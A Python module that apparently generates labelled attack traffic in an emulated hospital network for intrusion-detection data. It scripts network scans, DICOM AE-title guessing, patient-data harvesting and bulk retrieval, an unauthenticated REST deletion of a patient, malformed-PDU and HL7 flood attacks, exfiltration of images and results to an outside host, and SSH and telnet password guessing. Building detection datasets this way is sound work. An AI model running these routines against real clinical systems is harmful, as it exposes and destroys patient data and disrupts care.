"""The attacks: one function each, one row in ATTACKS each. They run one after the other while the day goes on."""

import json
import time

import topology as t
from network import LAB
from services import PYTHON

PAUSE_SECONDS = 9     # of quiet between two attacks
LEAD_IN_SECONDS = 120   # of benign traffic before the first one
LEAD_OUT_SECONDS = 30

AE_GUESSES = ("ORTHANC", "DCM4CHEE", "PACS", "CONQUESTSRV1", "ANY-SCP", "ANYSCP", "STORESCP", "DICOM", "DICOMSERVER", "ARCHIVE", "PACS1", "MAINPACS",
              "SERVER", "OSIRIX", "HOROS", "DCMQRSCP", "QRSCP", "CLEARCANVAS", "K-PACS", "XNAT", "TEST", "RADIANT", "MIRTH", "SYNAPSE", "IMPAX",
              "CENTRICITY", "SECTRA", "INTELLISPACE", "VNA", "RIS")
REST = f"http://pacs:{t.PACS_REST_PORT}"


class Attacker:
    def __init__(self, net, objects, patients):
        self.net, self.objects, self.patients = net, objects, patients
        self.scratch = net.work / "stolen"
        self.scratch.mkdir()

    def do(self, host, *command, timeout=90, **kwargs):
        return self.net.do(host, *command, timeout=timeout, **kwargs)

    def raw(self, host, *arguments, timeout=120):
        return self.do(host, *PYTHON, LAB / "raw_senders.py", *arguments, timeout=timeout)

    def find(self, host, calling, level, *keys):
        return self.do(host, "findscu", "-to", 5, "-S", "-aet", calling, "-aec", "HOSPPACS", "pacs", t.PACS_PORT, "-k", f"QueryRetrieveLevel={level}",
                       *(word for key in keys for word in ("-k", key)))

    def study_uids(self):
        found = self.do("pacs", "curl", "-s", "-d", '{"Level":"Study","Query":{},"Expand":true}', f"http://127.0.0.1:{t.PACS_REST_PORT}/tools/find")
        return [s["MainDicomTags"]["StudyInstanceUID"] for s in json.loads(found.stdout)]

    # Getting to know the network

    def new_device(self):
        self.net.plug_in(t.HOSTS["intruder"])
        self.do("intruder", "busybox", "udhcpc", "-i", "eth0", "-q", "-n", "-f", "-s", self.net.work / "udhcpc.sh", "-x", "hostname:raspberrypi")
        for name in ("pacs", "archive", "ris"):
            self.do("intruder", "busybox", "nslookup", f"{name}.{t.DOMAIN}", t.HOSTS["infra"].ipv4)

    def host_scan(self):
        self.do("intruder", "nmap", "-sn", "-n", "--max-rate", 60, "10.20.20.0/25", "10.20.30.0/26", timeout=120)

    def port_scan(self):
        self.do("intruder", "nmap", "-sS", "-n", "-Pn", "--max-rate", 250, "--max-retries", 1, "-p", "1-1500", "10.20.20.10", timeout=120)

    def service_scan(self):
        self.do("intruder", "nmap", "-sV", "-n", "-Pn", "--version-intensity", 3, "--script", "dicom-ping,banner", "-p", "22,104,2575,8042,11112",
                "10.20.20.10", "10.20.20.20", "10.20.20.40", timeout=150)

    # Getting to know the DICOM servers

    def guess_called(self):
        for title in AE_GUESSES:
            self.do("intruder", "echoscu", "-to", 3, "-ta", 3, "-aet", "ECHOSCU", "-aec", title, "archive", t.ARCHIVE_PORT)

    def guess_calling(self):
        for title in AE_GUESSES[:20]:
            self.do("intruder", "findscu", "-to", 3, "-ta", 3, "-S", "-aet", title, "-aec", "LTARCHIVE", "archive", t.ARCHIVE_PORT,
                    "-k", "QueryRetrieveLevel=STUDY", "-k", "PatientID=X")

    def default_titles(self):
        self.do("intruder", "echoscu", "-to", 3, "-aet", "ECHOSCU", "-aec", "ANY-SCP", "ws1", t.WORKSTATION_PORT)
        self.do("intruder", "echoscu", "-to", 3, "-aet", "ORTHANC", "-aec", "ORTHANC", "ws2", t.WORKSTATION_PORT)
        self.do("intruder", "echoscu", "-to", 3, "-aet", "ECHOSCU", "-aec", "ANY-SCP", "pacs", t.PACS_PORT)
        self.do("intruder", "echoscu", "-to", 3, "-aet", "ANY-SCU", "-aec", "ANY-SCP", "ris", t.DOSE_PORT)

    def unknown_calling(self):
        _, files = self.objects.study("CR", self.patients[0], "ROGUE")
        self.do("intruder", "echoscu", "-to", 3, "-aet", "ROGUE_SCU", "-aec", "HOSPPACS", "pacs", t.PACS_PORT)
        self.do("intruder", "storescu", "-to", 3, "-aet", "ROGUE_SCU", "-aec", "HOSPPACS", "pacs", t.PACS_PORT, files[0])

    # Taking data

    def find_harvest(self):
        self.find("ws2", "WS_RAD2", "STUDY", "PatientName=*", "PatientID", "PatientBirthDate", "StudyInstanceUID", "StudyDate")
        self.find("ws2", "WS_RAD2", "STUDY", "PatientName", "PatientID=*", "StudyInstanceUID")
        for study in self.study_uids()[:12]:
            self.find("ws2", "WS_RAD2", "SERIES", f"StudyInstanceUID={study}", "SeriesInstanceUID", "Modality")
            self.find("ws2", "WS_RAD2", "IMAGE", f"StudyInstanceUID={study}", "SeriesInstanceUID=*", "SOPInstanceUID")

    def spoofed_find(self):
        for letter in "ABCDEFGHIJKLMNOPQRSTUVWZ":
            self.find("intruder", "WS_RAD1", "STUDY", f"PatientName={letter}*", "PatientID", "StudyInstanceUID")

    def bulk_get(self):
        for study in self.study_uids()[:8]:
            self.do("intruder", "getscu", "-to", 5, "-S", "-aet", "WS_RAD1", "-aec", "HOSPPACS", "-od", self.scratch, "pacs", t.PACS_PORT,
                    "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={study}")

    def bulk_move(self):
        for study in self.study_uids()[:8]:
            self.do("ws2", "movescu", "-to", 5, "-S", "-aet", "WS_RAD2", "-aec", "HOSPPACS", "-aem", "WS_RAD2", "pacs", t.PACS_PORT,
                    "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={study}")

    def new_destination(self):
        self.net.serve("stolen", "intruder", "storescp", "--ignore", "--fork", "-aet", "OLD_WS3", t.WORKSTATION_PORT)
        time.sleep(1)
        for study in self.study_uids()[-2:]:
            self.do("ws2", "movescu", "-to", 5, "-S", "-aet", "WS_RAD2", "-aec", "HOSPPACS", "-aem", "OLD_WS3", "pacs", t.PACS_PORT,
                    "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={study}")

    def rest(self):
        for path in ("/system", "/patients?expand", "/studies?expand", "/modalities?expand", "/instances"):
            self.do("intruder", "curl", "-s", "-o", "/dev/null", "--max-time", 20, REST + path)
        instances = json.loads(self.do("intruder", "curl", "-s", f"{REST}/instances").stdout)
        for instance in instances[:4]:
            self.do("intruder", "curl", "-s", "-o", "/dev/null", f"{REST}/instances/{instance}/file")
        patient = json.loads(self.do("intruder", "curl", "-s", f"{REST}/patients").stdout)[0]
        self.do("intruder", "curl", "-s", "-o", "/dev/null", "-X", "DELETE", f"{REST}/patients/{patient}")

    def dicom_public(self):
        _, files = self.objects.study("CT", self.patients[3], "WS1")
        self.do("ws1", "storescu", "-to", 5, "-aet", "WS_RAD1", "-aec", "CLOUDPACS", t.INTERNET_HOST, t.PACS_PORT, *files[:5])

    def hl7_public(self):
        self.raw("engine", "export", t.INTERNET_HOST, t.HL7_ADT_PORT)

    # Doing harm

    def pdu_length(self):
        self.raw("intruder", "pdu-length", "pacs", t.PACS_PORT, "HOSPPACS")

    def garbage(self):
        self.raw("intruder", "garbage", "pacs", t.PACS_PORT)

    def broken_items(self):
        self.raw("intruder", "broken-items", "pacs", t.PACS_PORT, "HOSPPACS")

    def hl7_new_sender(self):
        self.net.plug_in(t.HOSTS["laptop"])
        self.raw("laptop", "new-sender", "10.20.20.40", t.HL7_ADT_PORT)

    def hl7_flood(self):
        self.raw("lis", "flood", "10.20.20.40", t.HL7_ORU_PORT, 400, 60)

    def hl7_endless(self):
        self.raw("laptop", "endless", "10.20.20.40", t.HL7_ORU_PORT, 40)

    # Moving on

    def new_peer(self):
        self.do("ws1", "dbclient", "-y", "-y", "-i", self.net.work / "ssh_user_key", "root@chem", "cat /proc/loadavg")
        self.do("ws1", "busybox", "nc", "-w", 2, "hema", 445, input="")
        self.do("ws1", "dbclient", "-y", "-y", "-i", self.net.work / "ssh_user_key", "root@chem", "ls -l /proc; sleep 2")

    def new_service(self):
        (self.net.work / "www").mkdir()
        (self.net.work / "www" / "tool.bin").write_bytes(b"\x7fELF" + bytes(30_000))
        self.net.serve("httpd", "us1", "busybox", "httpd", "-f", "-p", 8080, "-h", self.net.work / "www")
        time.sleep(0.5)
        for _ in range(3):
            self.do("ws2", "curl", "-s", "-o", "/dev/null", "--max-time", 10, "http://us1:8080/tool.bin")
            time.sleep(2)

    def telnet_guess(self):
        self.raw("intruder", "telnet-guess", "hema", t.TELNET_PORT, 25)

    def ssh_guess(self):
        for n in range(15):
            self.do("intruder", "sshpass", "-p", f"guess{n}", "dbclient", "-y", "-y", "root@pacs", "true", timeout=20)


def ip_of(*names):
    return ["10.20.30.166" if n == "intruder" else t.HOSTS[n].ipv4 for n in names]


# name, function, attackers, victims, ports, protocol, description
ATTACKS = (
    ("new-device", "new_device", ["intruder"], ["infra"], [53, 67], "dhcp", "A Raspberry Pi nobody knows joins the clinical VLAN and asks for names"),
    ("host-scan", "host_scan", ["intruder"], ["pacs", "archive", "ris", "engine", "ehr", "billing", "his", "ws1", "ws2"], [], "icmp", "nmap -sn over the server VLAN (routed) and the clinical VLAN (ARP)"),
    ("port-scan", "port_scan", ["intruder"], ["pacs"], [], "tcp", "nmap -sS of 1,500 ports of the PACS"),
    ("service-scan", "service_scan", ["intruder"], ["pacs", "archive", "engine"], [22, 104, 2575, 8042, 11112], "tcp",
     "nmap -sV and dicom-ping against PACS, archive and interface engine"),
    ("ae-guessing-called", "guess_called", ["intruder"], ["archive"], [t.ARCHIVE_PORT], "dicom", "30 called AE titles tried with C-ECHO; all rejected"),
    ("ae-guessing-calling", "guess_calling", ["intruder"], ["archive"], [t.ARCHIVE_PORT], "dicom", "20 calling AE titles tried against the right called one"),
    ("default-ae-titles", "default_titles", ["intruder"], ["ws1", "ws2", "pacs", "ris"], [t.PACS_PORT, t.WORKSTATION_PORT, t.DOSE_PORT], "dicom",
     "ANY-SCP and ORTHANC work on workstations that accept any title"),
    ("unknown-calling-ae", "unknown_calling", ["intruder"], ["pacs"], [t.PACS_PORT], "dicom", "A calling AE title that is on no list stores an image, and is let in"),
    ("find-harvest", "find_harvest", ["ws2"], ["pacs"], [t.PACS_PORT], "dicom", "C-FIND with * and empty keys, then down the levels of a dozen studies"),
    ("find-harvest-spoofed-ae", "spoofed_find", ["intruder"], ["pacs"], [t.PACS_PORT], "dicom",
     "The AE title of a workstation from another address; patients by first letter"),
    ("bulk-retrieval-get", "bulk_get", ["intruder"], ["pacs"], [t.PACS_PORT], "dicom", "C-GET of eight studies by the intruder with a stolen AE title"),
    ("bulk-retrieval-move", "bulk_move", ["ws2"], ["pacs"], [t.PACS_PORT, t.WORKSTATION_PORT], "dicom", "C-MOVE of eight studies to a workstation in a row"),
    ("move-new-destination", "new_destination", ["ws2", "intruder"], ["pacs"], [t.PACS_PORT, t.WORKSTATION_PORT], "dicom",
     "C-MOVE to OLD_WS3, a forgotten entry whose address the intruder has taken"),
    ("rest-new-client", "rest", ["intruder"], ["pacs"], [t.PACS_REST_PORT], "http", "Orthanc's unauthenticated REST interface: lists, files, and a patient deleted"),
    ("malformed-pdu-length", "pdu_length", ["intruder"], ["pacs"], [t.PACS_PORT], "dicom", "PDU lengths up to 4 GiB, before and inside an association"),
    ("malformed-garbage", "garbage", ["intruder"], ["pacs"], [t.PACS_PORT], "dicom", "Random bytes, HTTP, TLS, HL7 and unknown PDU types on the DICOM port"),
    ("malformed-items", "broken_items", ["intruder"], ["pacs"], [t.PACS_PORT], "dicom", "Truncated items, PDV lengths that lie, unnegotiated contexts, PDUs out of turn"),
    ("hl7-new-sender", "hl7_new_sender", ["laptop"], ["engine"], [t.HL7_ADT_PORT], "hl7", "A laptop in the laboratory says to be the HIS: merges and discharges"),
    ("hl7-flood", "hl7_flood", ["lis"], ["engine"], [t.HL7_ORU_PORT], "hl7", "400 results in seven seconds from the known LIS"),
    ("hl7-endless-frame", "hl7_endless", ["laptop"], ["engine"], [t.HL7_ORU_PORT], "hl7", "A start block, then 40 seconds of bytes without an end"),
    ("dicom-public", "dicom_public", ["ws1"], ["internet"], [t.PACS_PORT], "dicom", "Images of a patient to an address on the internet"),
    ("hl7-public", "hl7_public", ["engine"], ["internet"], [t.HL7_ADT_PORT], "hl7", "Results of twelve patients to an address on the internet"),
    ("new-peer", "new_peer", ["ws1"], ["chem", "hema"], [22, 445], "ssh", "A workstation logs in on analysers it never talked to"),
    ("new-service", "new_service", ["us1", "ws2"], ["us1"], [8080], "http", "An ultrasound cart starts to serve files; a workstation fetches them"),
    ("telnet-guessing", "telnet_guess", ["intruder"], ["hema"], [t.TELNET_PORT], "telnet", "25 telnet log-ins on an analyser, all refused"),
    ("ssh-guessing", "ssh_guess", ["intruder"], ["pacs"], [22], "ssh", "15 SSH passwords tried on the PACS, all refused"),
)


def carry_out(net, objects, patients):
    """Runs every attack; returns labels whose times enclose the attack (labels.py narrows them to its packets)."""
    attacker, labels = Attacker(net, objects, patients), []
    time.sleep(LEAD_IN_SECONDS)
    for name, function, attackers, victims, ports, protocol, description in ATTACKS:
        net.say(f"attack {name}")
        start = time.time()
        try:
            getattr(attacker, function)()
        except Exception as error:
            net.say(f"attack {name} failed: {error!r}")
        labels.append({"name": name, "start": start, "end": time.time(), "attackers": ip_of(*attackers), "victims": ip_of(*victims), "ports": ports,
                       "protocol": protocol, "description": description})
        if name == "new-device":  # it has no address at first; labels.py finds it by this, and drops it
            labels[-1]["mac"] = t.HOSTS["intruder"].mac
        time.sleep(PAUSE_SECONDS)
    time.sleep(LEAD_OUT_SECONDS)
    return labels
